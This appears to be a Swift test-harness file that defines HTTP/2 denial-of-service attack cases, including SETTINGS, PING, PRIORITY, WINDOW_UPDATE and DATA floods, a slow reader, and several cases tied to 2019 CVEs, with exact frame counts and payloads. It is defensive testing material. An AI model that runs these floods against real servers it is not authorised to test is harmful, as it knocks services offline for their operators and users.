extension Assault {
  private static let ping = [UInt8](repeating: 7, count: 8)

  package static let settingsFlood = Assault("settings-flood", "SETTINGS without end (CVE-2019-9515)") { client, _ in
    times(200) { _ in client.send(RawFrame.Kind.settings) }
  }

  package static let windowChurn = Assault(
    "window-churn", "INITIAL_WINDOW_SIZE back and forth while streams wait for it"
  ) { client, call in
    eachStream(50) { stream in
      call.send(client, stream)
      return true
    }
    times(200) { round in
      let entries = (0..<32).flatMap { RawFrame.setting(4, UInt32(($0 + round) % 2) * 70_000) }
      return client.send(RawFrame.Kind.settings, entries)
    }
  }

  package static let pingFlood = Assault("ping-flood", "PING without end (CVE-2019-9512)") { client, _ in
    times(1_000) { _ in client.send(RawFrame.Kind.ping, ping) }
  }

  package static let pingAnswerFlood = Assault("ping-answer-flood", "answers to no PING") { client, _ in
    times(1_100) { _ in client.send(RawFrame.Kind.ping, flags: RawFrame.Flag.ack, ping) }
  }

  package static let priorityFlood = Assault("priority-flood", "PRIORITY without end (CVE-2019-9513)") { client, _ in
    times(1_100) { _ in client.send(RawFrame.Kind.priority, stream: 1, [0, 0, 0, 0, 1]) }
  }

  package static let unknownFrames = Assault("unknown-frames", "frames of a type that does not exist") { client, _ in
    times(1_100) { _ in client.send(0x42, [0, 0, 0, 0, 1]) }
  }

  package static let windowUpdateFlood = Assault("window-update-flood", "WINDOW_UPDATE of one byte, 11,000 times") {
    client, _ in
    let update = RawFrame.encode(RawFrame.Kind.windowUpdate, 0, 0, RawFrame.number(1))
    let hundred = [UInt8]((0..<100).flatMap { _ in update })
    times(110) { _ in client.write(hundred) }
  }

  package static let emptyData = Assault("empty-data", "DATA of nothing (CVE-2019-9518)") { client, call in
    client.headers(1, call.block(), endStream: false)
    times(1_100) { _ in client.data(1, []) }
  }

  package static let tinyData = Assault("tiny-data", "DATA of one byte, plain and padded (CVE-2019-9511)") {
    client, call in
    client.headers(1, call.block(), endStream: false)
    let padded = [200, 1] + [UInt8](repeating: 0, count: 200)
    times(550) { _ in
      client.data(1, [1])
      return client.send(RawFrame.Kind.data, flags: RawFrame.Flag.padded, stream: 1, padded)
    }
  }

  package static let slowReader = Assault("slow-reader", "asks for an answer with a window of zero (CVE-2019-9517)") {
    client, call in
    client.send(RawFrame.Kind.settings, RawFrame.setting(4, 0))
    call.send(client, 1)
  }
}
